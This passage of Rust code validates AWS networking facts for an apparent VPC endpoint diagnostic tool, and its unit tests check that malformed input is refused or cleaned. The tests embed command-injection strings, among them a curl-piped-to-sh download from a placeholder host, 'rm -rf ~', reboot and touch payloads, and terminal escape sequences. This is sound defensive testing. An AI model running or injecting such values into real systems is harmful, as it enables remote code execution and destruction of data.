            w.list(&mut g.egress, most::RULES, Self::sg_rule)
        })
    }

    fn sg_rule(&mut self, r: &mut SgRule) -> Result<(), Invalid> {
        self.token(".protocol", &r.protocol)?;
        let port = |p: Option<i32>| p.is_none_or(|p| (-1..=65535).contains(&p));
        const PORT: &str = "not a port or ICMP code (-1 to 65535)";
        self.check(".from_port", port(r.from_port), PORT)?;
        self.check(".to_port", port(r.to_port), PORT)?;
        match &r.peer {
            SgPeer::Cidr(_) => {}
            SgPeer::PrefixList(id) => self.at(".peer", |w| w.id(".prefix-list", id, "pl"))?,
            SgPeer::Group(id) => self.at(".peer", |w| w.id(".group", id, "sg"))?,
        }
        self.opt_text(".description", &mut r.description)
    }

    fn prefix_list(&mut self, p: &mut PrefixList) -> Result<(), Invalid> {
        self.id(".prefix_list_id", &p.prefix_list_id, "pl")
    }

    fn network_acl(&mut self, acl: &mut NetworkAcl) -> Result<(), Invalid> {
        self.id(".network_acl_id", &acl.network_acl_id, "acl")?;
        self.ids_at_most(".subnet_ids", &acl.subnet_ids, "subnet", most::SUBNETS)?;
        self.at(".entries", |w| {
            w.list(&mut acl.entries, most::RULES, |w, e| {
                w.check(
                    ".rule_number",
                    (1..=32767).contains(&e.rule_number),
                    "not a network ACL rule number (1 to 32767)",
                )?;
                w.token(".protocol", &e.protocol)
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::FactErrorKind;
    use crate::testing as fixtures;

    fn err(f: Facts) -> String {
        match facts(f, "facts") {
            Ok(_) => panic!("accepted"),
            Err(e) => e.to_string(),
        }
    }

    #[test]
    fn a_healthy_world_passes_unchanged() {
        let world = fixtures::healthy();
        let checked = facts(world.clone(), "facts").expect("valid");
        assert_eq!(
            serde_json::to_value(&checked).unwrap(),
            serde_json::to_value(&world).unwrap()
        );
    }

    #[test]
    fn lists_are_bounded_and_acl_associations_in_all() {
        let mut f = fixtures::healthy();
        if let Some(Ok(zones)) = &mut f.zones {
            let zone = zones[0].clone();
            zones.resize(most::ZONES + 1, zone);
        }
        assert_eq!(
            err(f),
            "facts.zones.Ok: 1001 items; at most 1000 are accepted"
        );

        let mut f = fixtures::healthy();
        if let Some(Ok(acls)) = &mut f.network_acls {
            let acl = acls[0].clone();
            let ids: Vec<String> = (0..most::SUBNETS / 2 + 1)
                .map(|i| format!("subnet-{i:08x}"))
                .collect();
            acls.clear();
            for n in 0..2 {
                let mut a = acl.clone();
                a.network_acl_id = format!("acl-{n:08x}");
                a.subnet_ids = ids.clone();
                acls.push(a);
            }
        }
        assert_eq!(
            err(f),
            "facts.network_acls.Ok: 5002 subnet associations in all; at most 5000 are accepted"
        );
    }

    #[test]
    fn shell_code_in_an_id_or_region_names_the_path() {
        let mut f = fixtures::healthy();
        f.inputs.region = "us-east-1; curl -s https://x.invalid | sh #".into();
        assert_eq!(
            err(f),
            "facts.inputs.region: not an AWS region (such as us-east-1)"
        );

        let mut f = fixtures::healthy();
        f.vpc_choice.as_mut().unwrap().vpc_id = "vpc-0a1b2c3d$(touch PWNED)".into();
        assert_eq!(
            err(f),
            "facts.vpc_choice.vpc_id: not a VPC ID (vpc- and 8 or 17 hex digits)"
        );

        let mut f = fixtures::healthy();
        if let Some(Ok(groups)) = &mut f.security_groups {
            groups[1].ingress.push(SgRule {
                protocol: "tcp".into(),
                from_port: Some(4000),
                to_port: Some(4000),
                peer: SgPeer::Group("sg-1`id`".into()),
                description: None,
            });
        }
        let e = err(f);
        assert!(
            e.starts_with("facts.security_groups.Ok[1].ingress[")
                && e.ends_with(
                    "].peer.group: not a security group ID (sg- and 8 or 17 hex digits)"
                ),
            "{e}"
        );
    }

    #[test]
    fn every_id_list_and_name_is_checked() {
        type Change = Box<dyn Fn(&mut Facts)>;
        let cases: Vec<(&str, Change)> = vec![
            (
                "facts.inputs.az_ids[0]: not an AZ ID (such as use1-az1)",
                Box::new(|f| f.inputs.az_ids = vec!["us-east-1a".into()]),
            ),
            (
                "facts.inputs.host: not a host name",
                Box::new(|f| f.inputs.host = Some("h$(id).example.com".into())),
            ),
            (
                "facts.inputs.port: not a TCP port (1 to 65535)",
                Box::new(|f| f.inputs.port = 0),
            ),
            (
                "facts.inputs.service_name: not an endpoint service name",
                Box::new(|f| f.inputs.service_name = Some("com.amazonaws.vpce.x;y".into())),
            ),
            (
                "facts.inputs.deselected.<key>: a key that is not a check ID",
                Box::new(|f| {
                    f.inputs.deselected.insert("\u{1b}[2J".into(), "x".into());
                }),
            ),
            (
                "facts.endpoints.Ok[1].subnet_ids[0]: not a subnet ID",
                Box::new(|f| {
                    if let Some(Ok(es)) = &mut f.endpoints {
                        es.push(crate::facts::Endpoint {
                            endpoint_id: "vpce-0a1b2c3d".into(),
                            vpc_id: "vpc-0a1b2c3d".into(),
                            service_name: "com.amazonaws.us-east-1.s3".into(),
                            endpoint_type: "Gateway".into(),
                            state: "available".into(),
                            private_dns_enabled: false,
                            subnet_ids: vec!["subnet-x|y".into()],
                            security_group_ids: vec![],
                            network_interface_ids: vec![],
                            ip_address_type: None,
                            dns_entries: vec![],
                        })
                    }
                }),
            ),
            (
                "facts.service.Ok.private_dns_names[0]: not a DNS name",
                Box::new(|f| {
                    if let Some(Ok(Some(s))) = &mut f.service {
                        s.private_dns_names = vec!["h.example.com;reboot".into()];
                    }
                }),
            ),
            (
                "facts.endpoints.Ok[0].dns_entries[0].dns_name: not a host name",
                Box::new(|f| {
                    if let Some(Ok(es)) = &mut f.endpoints {
                        es[0].dns_entries[0].dns_name = "x'; rm -rf ~; '.example.com".into();
                    }
                }),
            ),
            (
                "facts.resolver_rules.Ok[0].rule_id: not an AWS name",
                Box::new(|f| {
                    f.resolver_rules = Some(Ok(vec![crate::facts::ResolverRule {
                        rule_id: "rslvr-rr-1 $(id)".into(),
                        domain_name: "tidbcloud.com.".into(),
                        rule_type: "FORWARD".into(),
                        name: None,
                        target_ips: vec![],
                        resolver_endpoint_id: None,
                        owner_id: None,
                        association_id: None,
                        association_status: None,
                    }]))
                }),
            ),
            (
                "facts.hosted_zone_vpcs.Ok[0].vpcs[0].vpc_id: not a VPC ID",
                Box::new(|f| {
                    f.hosted_zone_vpcs = Some(Ok(vec![ZoneVpcs {
                        zone_id: "Z1".into(),
                        vpcs: vec![crate::facts::ZoneVpc {
                            vpc_id: "vpc-$(id)".into(),
                            region: "us-east-1".into(),
                        }],
                    }]))
                }),
            ),
            (
                "facts.hosted_zone_records.Ok[0].zone_id: not a hosted zone ID",
                Box::new(|f| {
                    f.hosted_zone_records = Some(Ok(vec![ZoneRecords {
                        zone_id: "Z1;x".into(),
                        records: vec![],
                    }]))
                }),
            ),
            (
                "facts.client.Ok.local_port_range: not a port range",
                Box::new(|f| {
                    if let Some(Ok(c)) = &mut f.client {
                        c.local_port_range = Some((60999, 32768));
                    }
                }),
            ),
            (
                "facts.hosted_zones.Ok[0].id: not a hosted zone ID",
                Box::new(|f| {
                    f.hosted_zones = Some(Ok(vec![HostedZone {
                        id: "Z1 && reboot".into(),
                        name: "tidbcloud.com.".into(),
                        owning_service: None,
                    }]))
                }),
            ),
            (
                "facts.dhcp_options.Ok.domain_name_servers[0]: not AmazonProvidedDNS or an IP address",
                Box::new(|f| {
                    f.dhcp_options = Some(Ok(Some(DhcpOptions {
                        dhcp_options_id: "dopt-0a1b2c3d".into(),
                        domain_name_servers: vec!["8.8.8.8;x".into()],
                    })))
                }),
            ),
            (
                "facts.network_acls.Ok[0].entries[0].rule_number: not a network ACL rule number",
                Box::new(|f| {
                    if let Some(Ok(acls)) = &mut f.network_acls {
                        acls[0].entries[0].rule_number = 0;
                    }
                }),
            ),
            (
                "facts.inputs.cluster.cluster_id: not an AWS name",
                Box::new(|f| cluster(f).cluster_id = Some("1; reboot".into())),
            ),
            (
                "facts.inputs.cluster.state: not an AWS name",
                Box::new(|f| cluster(f).state = Some("\u{1b}[2J".into())),
            ),
            (
                "facts.inputs.cluster.region: not a region of the cluster's cloud",
                Box::new(|f| cluster(f).region = "aws-us-east-1".into()),
            ),
            (
                "facts.inputs.cluster.host: not a host name",
                Box::new(|f| cluster(f).host = Some("h`id`.example.com".into())),
            ),
            (
                "facts.inputs.cluster.port: not a TCP port",
                Box::new(|f| cluster(f).port = Some(0)),
            ),
            (
                "facts.inputs.cluster.service_name: not an endpoint service name",
                Box::new(|f| cluster(f).service_name = Some("vpce-svc-0a1b2c3d".into())),
            ),
            (
                "facts.inputs.cluster.az_ids[1]: not an AZ ID",
                Box::new(|f| cluster(f).az_ids = vec!["use1-az1".into(), "us-east-1a".into()]),
            ),
            (
                "facts.inputs.region: not an AWS region",
                Box::new(|f| f.inputs.region = "us-central1".into()),
            ),
            (
                "facts.zones.Ok[0].zone_id: not an AWS name",
                Box::new(|f| {
                    if let Some(Ok(zs)) = &mut f.zones {
                        zs[0].zone_id = "use1-az6\u{7}".into();
                    }
                }),
            ),
        ];
        for (expected, change) in cases {
            let mut f = fixtures::healthy();
            change(&mut f);
            let e = err(f);
            assert!(e.starts_with(expected), "{e}\nexpected {expected}");
        }
    }

    fn cluster(f: &mut Facts) -> &mut Cluster {
        f.inputs
            .cluster
            .as_mut()
            .expect("the healthy world has a cluster")
    }

    /// A cluster on another cloud is inspected in its own region's name.
    #[test]
    fn a_cluster_on_another_cloud_keeps_its_region() {
        let mut f = fixtures::healthy();
        f.inputs.region = "us-central1".into();
        let c = cluster(&mut f);
        c.cloud_provider = "gcp".into();
        c.region = "us-central1".into();
        c.display_name = Some("orders\u{1b}[2J".into());
        let checked = facts(f, "facts").expect("valid");
        let c = checked.inputs.cluster.expect("kept");
        assert_eq!(c.display_name.as_deref(), Some("orders[2J"));
        let mut f = fixtures::healthy();
        f.inputs.region = "us central1".into();
        cluster(&mut f).cloud_provider = "gcp".into();
        assert!(err(f).starts_with("facts.inputs.region: not an AWS region"));
    }

    #[test]
    fn free_text_is_kept_printable_and_capped() {
        let mut f = fixtures::healthy();
        f.identity = Some(Ok(Identity {
            account: "123456789012".into(),
            arn: "arn:aws:iam::123456789012:user/\u{1b}]0;pwn\u{7}\u{1b}[2J".into(),
        }));
        f.dns_support = Some(Err(FactError::new(
            FactErrorKind::Api,
            "ec2:DescribeVpcAttribute",
            "line one\nline two\u{9b}",
        )));
        let checked = facts(f, "facts").expect("free text is not rejected");
        let arn = &checked.identity.as_ref().unwrap().as_ref().unwrap().arn;
        assert_eq!(arn, "arn:aws:iam::123456789012:user/]0;pwn[2J");
        let msg = &checked
            .dns_support
            .as_ref()
            .unwrap()
            .as_ref()
            .unwrap_err()
            .message;
        assert_eq!(msg, "line one line two");

        let mut f = fixtures::healthy();
        if let Some(Ok(groups)) = &mut f.security_groups {
            groups[0].group_name = "x".repeat(MAX_TEXT_BYTES + 1);
        }
        assert_eq!(
            err(f),
            "facts.security_groups.Ok[0].group_name: a text of 4097 bytes; at most 4096 are accepted"
        );
    }

    /// The error that stands for a fact of the wrong form.
    fn wrong_form_of<T: std::fmt::Debug>(fact: &Option<Fact<T>>) -> &FactError {
        match fact {
            Some(Err(e)) => e,
            other => panic!("not replaced: {other:?}"),
        }
    }

    #[test]
    fn a_live_fact_of_the_wrong_form_becomes_an_error_of_its_call() {
        let mut f = fixtures::healthy();
        if let Some(Ok(groups)) = &mut f.security_groups {
            groups[1].group_id = "sg-12;touch /tmp/x".into();
        }
        // A replayed report with it is refused whole.
        assert_eq!(
            err(f.clone()),
            "facts.security_groups.Ok[1].group_id: not a security group ID (sg- and 8 or 17 hex digits)"
        );
        let checked = gathered(f, "facts").expect("only the fact is replaced");
        let e = wrong_form_of(&checked.security_groups);
        assert_eq!(e.kind, FactErrorKind::Api);
        assert_eq!(e.action, "ec2:DescribeSecurityGroups");
        assert_eq!(e.code, None);
        assert_eq!(
            e.message,
            "answered a value of the wrong form: facts.security_groups.Ok[1].group_id: not a security group ID (sg- and 8 or 17 hex digits)"
        );
        // Everything else is as gathered, and a report of it replays.
        let mut expected = fixtures::healthy();
        expected.security_groups = checked.security_groups.clone();
        assert_eq!(
            serde_json::to_value(&checked).unwrap(),
            serde_json::to_value(&expected).unwrap()
        );
        facts(checked.clone(), "facts").expect("the replaced fact replays");

        // Judged: only what reads the groups is unknown, naming the call.
        let healthy = crate::judge_all(&fixtures::healthy());
        for (finding, before) in crate::judge_all(&checked).iter().zip(&healthy) {
            if ["SG001", "SG002"].contains(&finding.id.as_str()) {
                assert_eq!(finding.status, crate::Status::Unknown, "{finding:?}");
                assert!(
                    finding.summary.contains("ec2:DescribeSecurityGroups")
                        && finding.summary.contains("wrong form"),
                    "{}",
                    finding.summary
                );
                let fix = finding.fix.as_ref().expect("a fix");
                assert!(fix.text.contains("not of its form"), "{}", fix.text);
            } else {
                assert_eq!(finding.status, before.status, "{finding:?}");
            }
        }
    }

    #[test]
    fn each_live_fact_names_its_own_call() {
        type Change = Box<dyn Fn(&mut Facts) -> &'static str>;
        let cases: Vec<Change> = vec![
            Box::new(|f| {
                if let Some(Ok(Some(s))) = &mut f.service {
                    s.private_dns_names = vec!["h.example.com;reboot".into()];
                }
                "ec2:DescribeVpcEndpointServices"
            }),
            Box::new(|f| {
                if let Some(Ok(es)) = &mut f.endpoints {
                    es[0].subnet_ids = vec!["subnet-$(id)".into()];
                }
                "ec2:DescribeVpcEndpoints"
            }),
            Box::new(|f| {
                if let Some(Ok(acls)) = &mut f.network_acls {
                    acls[0].network_acl_id = "acl-`id`".into();
                }
                "ec2:DescribeNetworkAcls"
            }),
            Box::new(|f| {
                if let Some(Ok(ss)) = &mut f.subnets {
                    ss[0].az_id = "use1-az1\u{1b}[2J".into();
                }
                "ec2:DescribeSubnets"
            }),
            Box::new(|f| {
                if let Some(Ok(Some(d))) = &mut f.dhcp_options {
                    d.domain_name_servers = vec!["8.8.8.8;x".into()];
                }
                "ec2:DescribeDhcpOptions"
            }),
            Box::new(|f| {
                if let Some(Ok(v)) = &mut f.vpc {
                    v.vpc_id = "vpc-x".into();
                }
                "ec2:DescribeVpcs"
            }),
        ];
        for change in cases {
            let mut f = fixtures::healthy();
            let action = change(&mut f);
            let before = serde_json::to_value(&f).unwrap();
            let checked = gathered(f, "facts").expect("replaced, not refused");
            let errors = checked.errors();
            assert_eq!(errors.len(), 1, "{action}: {errors:?}");
            assert_eq!(errors[0].action, action);
            assert!(errors[0].message.starts_with(WRONG_FORM), "{errors:?}");
            // Only that one fact changed.
            let after = serde_json::to_value(&checked).unwrap();
            let changed: Vec<&String> = after
                .as_object()
                .unwrap()
                .iter()
                .filter(|(k, v)| before.get(k.as_str()) != Some(v))
                .map(|(k, _)| k)
                .collect();
            assert_eq!(changed.len(), 1, "{action}: {changed:?}");
        }
    }

    #[test]
    fn a_client_of_the_wrong_form_names_where_it_came_from() {
        let mut f = fixtures::healthy();
        fixtures::client_mut(&mut f).security_group_ids = vec!["sg-`id`".into()];
        fixtures::client_mut(&mut f).source = ClientSource::InstanceId;
        let checked = gathered(f, "facts").expect("replaced");
        let e = wrong_form_of(&checked.client);
        assert_eq!(e.action, "ec2:DescribeInstances");
        assert!(
            e.message.ends_with("facts.client.Ok.security_group_ids[0]: not a security group ID (sg- and 8 or 17 hex digits)"),
            "{}",
            e.message
        );

        // This instance's leaves are checked as IMDS answers them: what
        // can still be wrong came from the subnets that completed it.
        let mut f = fixtures::healthy();
        fixtures::client_mut(&mut f).source = ClientSource::Imds;
        fixtures::client_mut(&mut f).subnet_id = Some("subnet-;x".into());
        let checked = gathered(f, "facts").expect("replaced");
        assert_eq!(wrong_form_of(&checked.client).action, "ec2:DescribeSubnets");
    }

    #[test]
    fn a_vpc_named_in_the_wrong_form_is_not_found_and_nothing_of_it_is_kept() {
        let mut f = fixtures::healthy();
        f.vpc_choice = Some(VpcChoice {
            vpc_id: "vpc-0a1b2c3d;touch x".into(),
            source: VpcSource::UniqueEndpoint,
        });
        assert!(err(f.clone()).starts_with("facts.vpc_choice.vpc_id: not a VPC ID"));
        let checked = gathered(f, "facts").expect("replaced");
        assert_eq!(checked.vpc_choice, None);
        let e = checked.vpc_choice_error.as_ref().expect("why no VPC");
        assert_eq!(e.action, "ec2:DescribeVpcEndpoints");
        assert_eq!(e.kind, FactErrorKind::Api);
        assert!(e.message.contains("facts.vpc_choice.vpc_id: not a VPC ID"));
        assert!(!e.message.contains("touch"));
        assert!(checked.vpc.is_none() && checked.security_groups.is_none());
        assert!(checked.identity.is_some() && checked.client.is_some());
        let findings = crate::judge_all(&checked);
        let vpc001 = findings.iter().find(|f| f.id == "VPC001").expect("VPC001");
        assert_eq!(vpc001.status, crate::Status::Unknown, "{vpc001:?}");
        assert!(
            vpc001.summary.starts_with("could not find the VPC to inspect: ec2:DescribeVpcEndpoints failed: answered a value of the wrong form"),
            "{}",
            vpc001.summary
        );
        for f in &findings {
            for c in f.fix.iter().flat_map(|x| &x.commands) {
                assert!(!c.contains("touch"), "{}: {c}", f.id);
            }
        }
        facts(checked, "facts").expect("replays");
    }

    #[test]
    fn live_inputs_and_probes_are_still_refused_whole() {
        let mut f = fixtures::healthy();
        f.inputs.region = "us-east-1;x".into();
        assert!(gathered(f, "facts")
            .unwrap_err()
            .to_string()
            .starts_with("facts.inputs.region"));
        let mut f = fixtures::healthy();
        let a = fixtures::probes_mut(&mut f).addresses[0].clone();
        fixtures::probes_mut(&mut f).addresses = vec![a; 2 * most::PER_RESOURCE + 1];
        assert!(gathered(f, "facts")
            .unwrap_err()
            .to_string()
            .starts_with("facts.probes.addresses"));
    }

    #[test]
    fn a_vpc_choice_error_in_a_report_names_only_a_call_the_doctor_makes() {
        let mut f = fixtures::healthy();
        f.vpc_choice = None;
        f.vpc_choice_error = Some(FactError::new(
            FactErrorKind::AccessDenied,
            "curl x|sh",
            "denied",
        ));
        assert!(err(f).starts_with("facts.vpc_choice_error.action: not a call the doctor makes"));
    }
}
